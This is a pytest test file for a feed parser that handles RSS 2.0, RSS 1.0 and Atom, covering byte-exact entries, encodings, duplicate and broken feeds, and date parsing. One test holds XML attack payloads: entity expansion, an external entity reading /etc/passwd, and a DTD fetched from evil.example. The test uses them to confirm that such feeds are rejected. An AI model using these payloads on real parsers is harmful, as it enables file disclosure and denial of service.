"""Feeds of every make: entries with their exact bytes, each once, however carelessly they were written."""

from datetime import UTC, datetime
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stonks_assets.ingestion import feeds
from stonks_assets.ingestion.feeds import Feed, instant, read_feed
from stonks_core.errors import PermanentError

URL = "https://blog.example/news/feed.xml"


def read(text: str | bytes, charset: str = "") -> Feed:
    found = read_feed(text.encode() if isinstance(text, str) else text, URL, charset)
    assert found is not None
    return found


def rss(*items: str, head: str = "") -> str:
    body = "\n ".join(f"<item>{item}</item>" for item in items)
    return f'<?xml version="1.0"?>{head}<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"><channel><title>c</title><link>https://blog.example/</link>{body}</channel></rss>'


RDF = """<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="https://blog.example/"><title>c</title></channel>
<item rdf:about="https://blog.example/1"><title>One</title><link>https://blog.example/1</link><description>first</description>
<dc:creator>Ada</dc:creator><dc:date>2026-03-10T07:30:00-04:00</dc:date></item></rdf:RDF>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom"><title>f</title><author><name>Everybody</name></author>
<entry><id>https://blog.example/1</id><title type="html">One</title><link rel="self" href="self"/><link href="../1"/>
<published>2026-03-10T11:30:00Z</published><updated>2026-03-11T11:30:00Z</updated>
<author><name>Ada</name><email>a@b.example</email></author><summary>first</summary></entry></feed>"""
RSS = rss(
    "<title>One</title><link>https://blog.example/1</link><guid>https://blog.example/1</guid>"
    "<description>first</description><pubDate>Tue, 10 Mar 2026 07:30:00 -0400</pubDate><dc:creator>Ada</dc:creator>"
)


@pytest.mark.parametrize("text", [RSS, RDF, ATOM], ids=["rss 2.0", "rss 1.0", "atom"])
def test_every_make_says_the_same(text: str) -> None:
    (entry,) = read(text).entries
    assert entry.name == "https://blog.example/1"
    assert (entry.title, entry.link, entry.summary, entry.author) == ("One", "https://blog.example/1", "first", "Ada")
    assert entry.at == datetime(2026, 3, 10, 11, 30, tzinfo=UTC)


@pytest.mark.parametrize("text", [RSS, RDF, ATOM], ids=["rss 2.0", "rss 1.0", "atom"])
def test_an_entry_s_bytes_are_those_of_the_feed(text: str) -> None:
    (entry,) = read(text).entries
    tag = b"entry" if "<entry" in text else b"item"
    assert entry.content in text.encode()
    assert entry.content.startswith(b"<" + tag)
    assert entry.content.endswith(b"</" + tag + b">")


@given(
    st.lists(
        st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), min_size=1), min_size=1, max_size=6
    ),
    st.sampled_from(["utf-8", "utf-16", "iso-8859-1"]),
)
def test_bytes_are_exact_in_every_encoding(titles: list[str], encoding: str) -> None:
    pieces = [
        f"<item><guid>{n}</guid><title>{escape(title)}</title><x><item>inner</item></x></item >"
        for n, title in enumerate(titles)
    ]
    text = f'<?xml version="1.0" encoding="{encoding}"?><rss>\u00e9{"<!-- <item> -->".join(pieces)}</rss>'
    feed = read(text.encode(encoding, "xmlcharrefreplace"))
    assert feed.broken == ""
    assert [entry.title for entry in feed.entries] == [title.strip() for title in titles]
    plain = "utf-16-le" if encoding == "utf-16" else encoding
    for entry, piece in zip(feed.entries, pieces, strict=True):
        held = entry.content + (b"\0" if encoding == "utf-16" else b"")
        assert held.decode(plain) == piece.encode(plain, "xmlcharrefreplace").decode(plain)


def test_carelessly_written_entries_arrive_each_once() -> None:
    feed = read(
        rss(
            "<title>no date</title><link>/a</link>",
            "<title>no link</title><description>some words</description>",
            "<title>no link</title><description>some words</description>",  # the same once more
            "<title>&lt;b&gt;bold&lt;/b&gt; &amp;amp; more</title><link>b</link>",
            "<title>twice</title><link>/c</link><guid>7</guid>",
            "<title>twice</title><link>/c</link><guid>7</guid>",
            "<title>one id</title><link>/d</link><guid>8</guid>",
            "<title>for two</title><link>/e</link><guid>8</guid>",
            "<title>worse</title><link>http://[broken</link><guid>9</guid>",
            "<media:title>not this</media:title><title>this</title><guid isPermaLink='false'>urn:x:1</guid>",
            "<pubDate>Tue, 10 Mar 2026 07:30:00 GMT</pubDate>",
            "",
        )
    )
    assert feed.broken == ""
    named = {entry.name: entry for entry in feed.entries}
    assert len(named) == len(feed.entries) == 8
    assert named["https://blog.example/a"].at is None
    assert named["https://blog.example/news/b"].title == "<b>bold</b> &amp; more"
    assert named[f"{URL}!7"].link == "https://blog.example/c"
    assert {"https://blog.example/d", "https://blog.example/e"} <= set(named)
    assert named[f"{URL}!9"].link == ""
    assert named["urn:x:1"].title == "this"
    assert sum(entry.title == "no link" for entry in feed.entries) == 1


def test_an_id_that_is_its_feed_s_own_is_another_in_another_feed() -> None:
    text = rss("<title>t</title><guid>1</guid>").encode()
    one, two = read_feed(text, URL), read_feed(text, "https://other.example/feed")
    assert one is not None
    assert two is not None
    assert one.entries[0].name != two.entries[0].name


def test_the_order_of_a_feed_does_not_matter() -> None:
    items = [f"<title>{n}</title><guid>{n}</guid><pubDate>Tue, 10 Mar 2026 0{n}:30:00 GMT</pubDate>" for n in range(5)]
    items.insert(2, "<title>undated</title>")
    forth, back = read(rss(*items)), read(rss(*items[::-1]))
    assert [e.name for e in forth.entries] == [e.name for e in back.entries]
    assert [e.title for e in forth.entries] == ["0", "1", "2", "3", "4", "undated"]


@pytest.mark.parametrize(
    ("text", "titles"),
    [
        (rss("<title>a</title>", "<title>b</title>")[:-40], ["a"]),  # cut
        (rss("<title>a &nbsp; &copy; b</title>", "<title>b</title>"), ["a \xa0 © b", "b"]),  # HTML's entities
        (rss("<title>a & b</title>", "<title>b</title>"), ["a  b", "b"]),
        (rss("<title>a</title><br>", "<title>b</title>"), ["a", "b"]),
        (rss("<title>a</title><undeclared:x>y</undeclared:x>"), ["a"]),
        (rss("<title>a\x0b</title>"), ["a"]),
    ],
)
def test_broken_feeds_are_read_as_far_as_their_entries_are_whole(text: str, titles: list[str]) -> None:
    feed = read(text)
    assert feed.broken
    assert [entry.title for entry in feed.entries] == titles
    assert all(entry.content in text.encode() for entry in feed.entries)


def test_a_broken_feed_s_entries_have_the_names_of_a_whole_one_s() -> None:
    items = ["<title>a</title><guid>1</guid>", "<title>b</title><link>/b</link>", "<title>c</title>"]
    whole, broken = read(rss(*items)), read(rss(*items).replace("</channel>", ""))
    assert broken.broken
    assert [(e.name, e.content) for e in whole.entries] == [(e.name, e.content) for e in broken.entries]


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_feed_that_defines_entities_is_left(declaration: str, encoding: str) -> None:
    text = rss("<title>&a;</title>", head=declaration).replace("?>", f' encoding="{encoding}"?>', 1)
    with pytest.raises(PermanentError, match="defines entities, and was left"):
        read(text.encode(encoding))


def test_a_feed_of_too_many_entries_is_left(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feeds, "MOST_ENTRIES", 10)
    many = rss(*[f"<title>{n}</title>" for n in range(11)])
    for text in (many, many.replace("</rss>", "")):
        with pytest.raises(PermanentError, match="a feed of more than 10 entries"):
            read(text)


def test_a_feed_of_openings_only_is_read_in_time() -> None:
    assert read(b"<rss>" + b"<item> " * 500_000).entries == ()
    assert read(b"<rss>" + b"<a>" * 500_000).entries == ()


@pytest.mark.parametrize(("declared", "charset"), [("", "windows-1252"), (' encoding="windows-1252"', "utf-8")])
def test_a_feed_in_an_older_charset(declared: str, charset: str) -> None:
    text = f'<?xml version="1.0"{declared}?><rss><item><title>Größe – €</title></item></rss>'
    assert read(text.encode("windows-1252"), charset).entries[0].title == "Größe – €"


def test_what_is_no_feed() -> None:
    for text in (
        "<html><body>hello</body></html>",
        "",
        "<!DOCTYPE html><html>an <rss> in it",
        "{}",
        "<sitemap></sitemap>",
    ):
        assert read_feed(text.encode(), URL) is None
    assert read("<rss><channel></channel></rss>") == Feed(())


@pytest.mark.parametrize(
    ("stamp", "expected"),
    [
        ("Tue, 10 Mar 2026 07:30:00 GMT", datetime(2026, 3, 10, 7, 30, tzinfo=UTC)),
        ("Tue, 10 Mar 2026 07:30:00 -0000", datetime(2026, 3, 10, 7, 30, tzinfo=UTC)),
        ("Tue, 10 Mar 2026 07:30:00 EDT", datetime(2026, 3, 10, 11, 30, tzinfo=UTC)),
        ("2026-03-10T07:30:00", datetime(2026, 3, 10, 7, 30, tzinfo=UTC)),
        ("2026-03-10T09:30:00+02:00", datetime(2026, 3, 10, 7, 30, tzinfo=UTC)),
        ("2026-03-10", datetime(2026, 3, 10, tzinfo=UTC)),
        ("0001-01-01T00:00:00+14:00", None),
        ("", None),
        ("yesterday", None),
    ],
)
def test_stamps_of_many_kinds(stamp: str, expected: datetime | None) -> None:
    assert instant(stamp) == expected


@given(st.binary(max_size=300))
def test_no_bytes_raise_anything_else(noise: bytes) -> None:
    for text in (b"<rss>" + noise, b"<rss><item><title>" + noise + b"</title></item></rss>", noise):
        try:
            read_feed(text, URL)
        except PermanentError as refusal:
            assert "entities" in str(refusal)  # noqa: PT017
